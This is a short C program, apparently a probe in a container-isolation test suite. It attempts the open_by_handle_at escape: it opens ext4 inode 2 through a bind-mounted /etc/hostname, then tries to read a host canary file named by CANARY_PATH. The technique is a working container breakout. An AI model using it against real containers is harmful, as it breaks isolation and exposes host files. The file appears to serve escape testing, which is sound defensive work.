#include "attempt.h"

/* ext4's root: inode 2, generation 0. */
static int open_root(void) {
    union {
        struct file_handle handle;
        char room[64];
    } root = {.handle = {.handle_bytes = 8, .handle_type = 1}};

    uint32_t inode = 2;
    memcpy(root.handle.f_handle, &inode, sizeof inode);
    int any = open("/etc/hostname", O_RDONLY); /* a bind mount of the host's file system */
    if (any < 0)
        any = open("/", O_RDONLY);
    return attempt("open_by_handle_at inode 2", open_by_handle_at(any, &root.handle, O_RDONLY | O_DIRECTORY));
}

int main(void) {
    char token[128] = "";
    int root = open_root();
    if (root < 0)
        return finish();
    int file = openat(root, from_env("CANARY_PATH", "/none") + 1, O_RDONLY);
    if (file < 0 || read(file, token, sizeof token - 1) <= 0)
        effect("got a directory by handle");
    else
        canary(token);
    return finish();
}
